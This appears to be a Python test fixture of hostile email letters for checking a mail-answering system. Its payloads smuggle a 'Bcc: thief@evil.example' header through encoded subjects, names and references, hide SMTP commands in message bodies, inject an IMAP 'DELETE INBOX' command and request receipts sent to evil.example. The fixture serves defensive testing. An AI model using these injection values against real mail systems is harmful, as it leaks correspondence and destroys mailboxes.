"""H1 to H4: letters whose answer would carry something of theirs along."""

from __future__ import annotations

from hostile.letter import PLEA, HostileLetter, mixed, part, raw_letter

JANE = "jane@mail.example"
INJECTED = "Bcc: thief@evil.example"
_WORD = "=?utf-8?Q?Hello=0D=0ABcc:_thief=40evil.example=0D=0A=0D=0Abody?="

ANSWERED = (
    HostileLetter("h1-line-end-in-subject", raw_letter(Subject=_WORD), answers=JANE),
    HostileLetter(
        "h1-bare-line-feed-in-subject", raw_letter(Subject="=?utf-8?Q?a=0ABcc:_b?="), answers=JANE
    ),
    HostileLetter(
        "h1-line-separator-in-subject", raw_letter(Subject=f"a\u2028{INJECTED}"), answers=JANE
    ),
    HostileLetter("h1-next-line-in-subject", raw_letter(Subject=f"a\x85{INJECTED}"), answers=JANE),
    HostileLetter("h1-nul-in-subject", raw_letter(Subject=f"a\x00{INJECTED}"), answers=JANE),
    HostileLetter("h1-line-end-in-name", raw_letter(From=f"{_WORD} <{JANE}>"), answers=JANE),
    HostileLetter(
        "h1-line-end-in-reply-to", raw_letter(Reply_To=f"{_WORD} <{JANE}>"), answers=JANE
    ),
    HostileLetter(
        "h1-line-end-in-address",
        raw_letter(From="=?utf-8?Q?x=40y.example=0D=0ABcc:_b?= <jane@mail.example>"),
        answers=JANE,
    ),
    HostileLetter(
        "h1-quotes-in-name", raw_letter(From=f'"a\\" <b@c.example>, \\"" <{JANE}>'), answers=JANE
    ),
    HostileLetter("h1-subject-of-5000-letters", raw_letter(Subject="я" * 5_000), answers=JANE),
    HostileLetter("h1-subject-of-one-word", raw_letter(Subject="x" * 5_000), answers=JANE),
    HostileLetter(
        "h1-name-of-5000-letters", raw_letter(From=f"{'Ж' * 5_000} <{JANE}>"), answers=JANE
    ),
    HostileLetter(
        "h1-subject-with-an-encoded-word",
        raw_letter(Subject="=?utf-8?B?PT91dGYtOD9RP2E9MEFCY2M6X2I/PQ==?="),
        answers=JANE,
    ),
    HostileLetter("h1-re-re-re", raw_letter(Subject="Re: " * 3_000 + "book"), answers=JANE),
    HostileLetter(
        "h1-line-end-in-message-id",
        raw_letter(Message_ID="=?utf-8?Q?=3Ca=40b=0D=0ABcc:_c=3E?="),
        answers=JANE,
    ),
    HostileLetter(
        "h1-message-id-of-5000-letters", raw_letter(Message_ID=f"<{'a' * 5_000}@b>"), answers=JANE
    ),
    HostileLetter("h1-message-id-with-blanks", raw_letter(Message_ID="<a b@c>"), answers=JANE),
    HostileLetter("h1-message-id-of-8-bit", raw_letter(Message_ID="<é@x>"), answers=JANE),
    HostileLetter(
        "h1-20000-references", raw_letter(References="<a@b> <c@d> " * 5_000), answers=JANE
    ),
    HostileLetter(
        "h1-500-different-references",
        raw_letter(References=" ".join(f"<{n}@b.example>" for n in range(500))),
        answers=JANE,
    ),
    HostileLetter(
        "h1-references-with-commands",
        raw_letter(References=f"<a@b>\r\n {INJECTED}\r\n <c@d>"),
        answers=JANE,
    ),
    HostileLetter(
        "h1-in-reply-to-of-words", raw_letter(In_Reply_To=f"Your letter; {INJECTED}"), answers=JANE
    ),
    HostileLetter("h2-dot-lines", raw_letter(".\r\n..\r\n.hidden\r\n.\r\n" + PLEA), says=(PLEA,)),
    HostileLetter(
        "h2-smuggled-letter",
        raw_letter(b"one\n.\nMAIL FROM:<a@b>\nRCPT TO:<c@d>\nDATA\n" + PLEA.encode()),
        says=(PLEA,),
    ),
    HostileLetter(
        "h2-smuggled-by-carriage-return",
        raw_letter(b"one\r.\rMAIL FROM:<a@b>\r" + PLEA.encode()),
        says=(PLEA,),
    ),
    HostileLetter(
        "h2-from-lines", raw_letter("From jane Mon\r\n>From jane\r\n" + PLEA), says=(PLEA,)
    ),
    HostileLetter(
        "h2-line-of-5000-letters", raw_letter("я" * 5_000 + "\r\n" + PLEA), says=(PLEA,)
    ),
    HostileLetter(
        "h3-search-in-message-id", raw_letter(Message_ID="<x>\r\n Z1 DELETE INBOX"), answers=JANE
    ),
    HostileLetter("h3-quotes-in-message-id", raw_letter(Message_ID='<a"b\\c@d>'), answers=JANE),
    HostileLetter("h3-literal-in-message-id", raw_letter(Message_ID="<a{5}@b>"), answers=JANE),
    HostileLetter("h3-nul-in-message-id", raw_letter(Message_ID="<a\x00b@c>"), answers=JANE),
    HostileLetter(
        "h4-receipt-wanted",
        raw_letter(
            Disposition_Notification_To="thief@evil.example",
            Return_Receipt_To="thief@evil.example",
        ),
        answers=JANE,
    ),
    HostileLetter(
        "h4-unsubscribe",
        raw_letter(
            List_Unsubscribe="<http://127.0.0.1:9/gone>",
            List_Unsubscribe_Post="List-Unsubscribe=One-Click",
        ),
        automatic="list",
        answers="",
    ),
    HostileLetter(
        "h4-vacation",
        raw_letter(Auto_Submitted="auto-replied"),
        automatic="auto-reply",
        answers="",
    ),
    HostileLetter(
        "h4-receipt-itself",
        mixed([part("read", "text/plain")], "report; report-type=disposition-notification"),
        automatic="auto-reply",
        answers="",
    ),
    HostileLetter(
        "h4-invitation",
        mixed(
            [
                part(PLEA),
                part(
                    "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nEND:VCALENDAR",
                    "text/calendar; method=REQUEST",
                ),
            ]
        ),
        says=(PLEA,),
        hides=("VCALENDAR",),
    ),
)
